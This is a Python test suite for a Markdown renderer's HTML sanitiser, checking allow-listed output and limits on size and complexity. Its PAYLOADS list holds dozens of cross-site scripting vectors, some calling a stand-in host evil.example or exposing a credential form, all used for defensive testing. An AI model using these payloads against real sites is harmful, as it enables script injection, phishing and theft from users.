"""Laws of `kb.markdown.render`: nothing that a text holds reaches the browser as more than text."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb.markdown.dialects import DIALECTS, commonmark, load_dialect
from kb.markdown.limits import (
    MAX_BARE_TAGS,
    MAX_BRACKETS,
    MAX_CODE_BYTES,
    MAX_CODE_LINE,
    MAX_HTML,
    MAX_RICH_BYTES,
)
from kb.markdown.page.sanitise import ATTRIBUTES, CLASSES, SCHEMES, TAGS
from kb.markdown.render import render

for name in DIALECTS:
    load_dialect(name)  # here, so that it is not the first example that takes so long

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onload="alert(1)" style="x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details/open/ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=https://x.y onclick=alert(1)>x</a>",
    "<div hx-get=/steal hx-trigger=load>x</div>",
    "<div data-hx-get=/steal data-hx-trigger=load>x</div>",
    "<span hx-on:click='alert(1)' id=content class=danger>x</span>",
    "<p id=main style='position:fixed;inset:0'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><script>alert(1)</script>-->",
    "<!--x--!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<br onclick=alert(1)>",
    "<kbd style=x:expression(alert(1))>x</kbd>",
    "<b/onmouseover=alert(1)>x</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x.y/1)",
    "[x](https://x.y 'a\" onmouseover=\"alert(1)')",
    '[x](https://x.y/" onmouseover="alert(1))',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: https://x.y '\"><script>alert(1)</script>'",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    '![x](https://x.y/"onerror="alert(1))',
    '!["><script>alert(1)</script>](https://x.y/z.png)',
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```svg\n<svg onload=alert(1)>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "https://x.y/<script>alert(1)</script>",
    'https://x.y/"onmouseover=alert(1)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<a name=x><script>alert(1)</script></a>",
    "<a name=x onclick=alert(1)>x</a>",
    "<font color=red onclick=alert(1)>x</font>",
    "<div title='>'><img src=x onerror=alert(1)></div>",
    "<s\0cript>alert(1)</s\0cript>",
    "<\u212amg src=x onerror=alert(1)>",
    "<b><p><b><table><b><td><b><details><summary><b>",
)


class Gate(HTMLParser):
    """Collects all that is outside the allow-list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        self.wrong += [f"{tag} {n}={v}" for n, v in attrs if not _may_carry(tag, n, v or "")]

    def handle_comment(self, data: str) -> None:
        self.wrong.append(data)

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(decl)

    def handle_pi(self, data: str) -> None:
        self.wrong.append(data)


def _may_carry(tag: str, name: str, value: str) -> bool:
    if name == "class":
        allowed = CLASSES.get(tag, frozenset())
        return all(
            c in allowed or (tag == "code" and c.startswith("language-")) for c in value.split()
        )
    if tag == "a" and name == "rel":
        return value == "noopener noreferrer nofollow"
    if tag == "a" and name == "href":
        return value.partition(":")[0].lower() in SCHEMES
    return name in ATTRIBUTES.get(tag, frozenset())


def find_wrong(html: str) -> list[str]:
    """List what a page holds beyond the allow-list."""
    gate = Gate()
    gate.feed(html)
    gate.close()
    return gate.wrong


def settings(payload: str) -> Iterator[str]:
    """Put a payload where people may put text."""
    yield payload
    yield f"words {payload} words"
    yield f"- item\n\n  {payload}"
    yield f"> {payload}\n\n| a |\n|---|\n| {payload} |"
    yield f'!!! note "{payload}"\n    {payload}\n\n??? {payload}\n    a\n\n=== "{payload}"\n    {payload}'
    yield f"a[^1]\n\n[^1]: {payload}\n\n*[a]: {payload}\n\na {{: {payload} }}\n\na\n:   {payload}"
    yield f"<details>\n{payload}\n</details>\n\n**{payload}**"


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_passes_the_gate(payload: str, dialect: str) -> None:
    """Wherever a payload stands, the page holds only tags, attributes and classes of the list."""
    for text in settings(payload):
        assert find_wrong(render(text, dialect=dialect)) == []


def test_the_gate_of_this_test_sees_what_is_wrong() -> None:
    """The check itself must not be blind."""
    html = '<img src=x><a href="javascript:x" onclick="y">z</a><p class="big"><!-- c --><!x><?y>'

    assert len(find_wrong(html)) >= 6


@pytest.mark.parametrize("dialect", DIALECTS)
@given(text=st.text(max_size=300))
def test_no_text_passes_the_gate_or_raises(text: str, dialect: str) -> None:
    """Any text becomes a page within the allow-list."""
    assert find_wrong(render(text, dialect=dialect)) == []


pieces = st.sampled_from(
    ["<", ">", '"', "'", "</", "<a", "<b>", "href=", "](", "![", "[", "`", "```\n", "\n", "\n\n", "|",
     "---", "<!--", "-->", "&", "javascript:", "https://x.y", "script", "onerror=", "*", "_", "~~", " ",
     "{: ", "}", '!!! a "', "\n    ", '=== "', "[^a]", "]: ", "*[a]: "]
)  # fmt: skip


@pytest.mark.parametrize("dialect", DIALECTS)
@given(text=st.lists(pieces, max_size=40).map("".join))
def test_no_heap_of_markup_passes_the_gate(text: str, dialect: str) -> None:
    """Neither does any mixture of Markdown's and HTML's own marks."""
    assert find_wrong(render(text, dialect=dialect)) == []


def is_plain(html: str) -> bool:
    """Tell whether a text was shown as typed."""
    return html.startswith("<pre>") and html.endswith("</pre>")


def test_a_rich_page_has_a_size_limit() -> None:
    """256 kB are formatted, one letter more is shown as typed."""
    text = "word " * (MAX_RICH_BYTES // 5)
    full = text.ljust(MAX_RICH_BYTES, "x")

    assert not is_plain(render(full))
    assert is_plain(render(f"{full}x"))


def test_repeated_long_links_do_not_swell_a_page() -> None:
    """Twenty kilobytes of references to one long address never become megabytes."""
    text = f"[a]: https://x.y/{'z' * 1900}\n\n" + "[a] " * 4_500

    assert is_plain(render(text))
    assert len(render(text)) < 2 * len(text)


def test_an_address_that_is_too_long_is_no_link() -> None:
    """One definition of ten kilobytes, used often, costs nothing."""
    text = f"[a]: https://x.y/{'z' * 10_000}\n\n" + "[a] " * 300

    assert render(text) == f"<p>{('a ' * 300).strip()}</p>\n"


@pytest.mark.parametrize(
    "text",
    [
        "*" * 500 + "a" + "*" * 500,
        "[" * (MAX_BRACKETS + 1),
        "* * * a\n" * 8_000,
        "|a" * 2_000 + "\n" + "|-" * 2_000 + "\n" + "|\n" * 40,
        "".join(f"- {'  ' * depth}a\n" for depth in range(200)) + "[x](" * 10_001,
    ],
    ids=["emphasis", "brackets", "lists", "cells", "mixed"],
)
def test_a_maze_of_marks_is_shown_as_typed(text: str) -> None:
    """What would take seconds to format is not formatted."""
    html = render(text)

    assert is_plain(html)
    assert len(html) < 6 * len(text)


def test_html_that_grew_too_big_is_not_used(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever way a page swells, the last check sees it before the browser does."""
    monkeypatch.setattr(commonmark, "write_html", lambda *_: "x" * (MAX_HTML + 1))

    assert render("a") == "<pre>a</pre>"


def test_nothing_raises_even_if_the_parser_does(monkeypatch: pytest.MonkeyPatch) -> None:
    """A fault in a library costs the formatting, never the page."""

    def fail(*_: str) -> str:
        raise RecursionError

    monkeypatch.setattr(commonmark, "write_html", fail)

    assert render("<a> \ud800") == "<pre>&lt;a&gt; ?</pre>"


def test_bare_tags_have_a_limit() -> None:
    """Deep nests of harmless tags make sanitising slow, so only some are taken for tags."""
    html = render("a" + "<kbd>" * (MAX_BARE_TAGS + 5) + "x")

    assert html.count("<kbd>") == MAX_BARE_TAGS
    assert html.count("&lt;kbd&gt;") == 5


@pytest.mark.parametrize(
    ("code", "coloured"),
    [
        ("x = 1\n" * (MAX_CODE_BYTES // 6), True),
        ("x = 1\n" * (MAX_CODE_BYTES // 6 + 1), False),
        ("x" * MAX_CODE_LINE, True),
        ("x" * (MAX_CODE_LINE + 1), False),
    ],
)
def test_colours_have_limits(code: str, *, coloured: bool) -> None:
    """Long blocks and long lines are shown plain: lexers are quadratic there."""
    assert ('<span class="' in render(f"```python\n{code}\n```")) is coloured


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize(
    "mark", ["<!--", "<![CDATA[", "<a ", "![", "`", "http://", "&", "\\", "- ", "> ", "[^1]", "*"]
)
def test_pages_of_one_mark_are_quick_and_bounded(mark: str, dialect: str) -> None:
    """Sixty kilobytes of any one mark end in a page of a few times that size."""
    text = mark * (60_000 // len(mark))

    assert len(render(text, dialect=dialect)) < 8 * len(text) + 100
